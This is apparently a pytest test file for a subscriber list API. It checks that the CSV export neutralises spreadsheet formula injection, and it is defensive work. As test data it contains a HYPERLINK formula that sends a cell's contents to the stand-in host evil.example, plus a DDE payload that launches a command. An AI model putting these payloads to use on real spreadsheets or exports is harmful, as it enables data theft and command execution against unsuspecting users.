"""The CSV export opened in a spreadsheet: no cell runs as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import httpx

from app.audience import export
from tests.helpers.api import post_json

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""OWASP's list of leading characters that make a spreadsheet evaluate a cell."""
ATTACK = '=HYPERLINK("https://evil.example/?leak="&B3,"Click for your prize")'


async def _export(client: httpx.AsyncClient) -> dict[str, dict[str, str]]:
    response = await client.get("/api/v1/subscribers/export")
    assert response.status_code == 200, response.text
    return {row["email"]: row for row in csv.DictReader(io.StringIO(response.text))}


async def test_a_formula_from_the_public_form_is_exported_as_text(
    client: httpx.AsyncClient,
) -> None:
    await post_json(client, "/api/v1/lists", {"name": "News", "visibility": "public"})
    (public,) = (await client.get("/api/v1/public/lists")).json()
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=client._transport.app),  # type: ignore[attr-defined]
        base_url="http://testserver",
    ) as anonymous:  # no API key: anyone on the internet
        response = await anonymous.post(
            "/api/v1/public/subscriptions",
            json={"email": "mallory@example.com", "name": ATTACK, "lists": [public["token"]]},
        )
        assert response.status_code == 202, response.text
    row = (await _export(client))["mallory@example.com"]
    assert row["name"] == "'" + ATTACK


async def test_every_cell_that_starts_like_a_formula_gets_a_quote_and_json_stays_exact(
    client: httpx.AsyncClient,
) -> None:
    names = {
        "plus@example.com": "+1 (555) 0100",
        "minus@example.com": "-5",
        "at@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
        "equals@example.com": "=1+1",
        "plain@example.com": "Smith, Ann",
        "inner@example.com": "Ann =1+1",
    }
    for email, name in names.items():
        await post_json(client, "/api/v1/subscribers", {"email": email, "name": name})
    attributes = {"score": -5, "note": "=1+1", "handle": "@ann", "tags": ["-x"]}
    await post_json(
        client,
        "/api/v1/subscribers",
        {"email": "=attr@example.com", "name": "Ann", "attributes": attributes},
    )
    rows = await _export(client)
    assert {email: rows[email]["name"] for email in names} == {
        "plus@example.com": "'+1 (555) 0100",
        "minus@example.com": "'-5",
        "at@example.com": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "equals@example.com": "'=1+1",
        "plain@example.com": "Smith, Ann",
        "inner@example.com": "Ann =1+1",
    }
    # An address may start with "=" (RFC 5321 allows it), so the email column is guarded too.
    quoted = rows["'=attr@example.com"]
    assert quoted["attributes"].startswith("{")
    assert json.loads(quoted["attributes"]) == attributes
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(TRIGGERS), cell


def test_tab_and_carriage_return_are_triggers_too() -> None:
    assert export.FORMULA_TRIGGERS == TRIGGERS
    # The API strips names, so these arrive only through other columns or future ones.
    assert export.neutralise("\t=1+1") == "'\t=1+1"
    assert export.neutralise("\r=1+1") == "'\r=1+1"
    assert export.neutralise("2024-01-01T00:00:00+00:00") == "2024-01-01T00:00:00+00:00"
    assert export.neutralise("") == ""
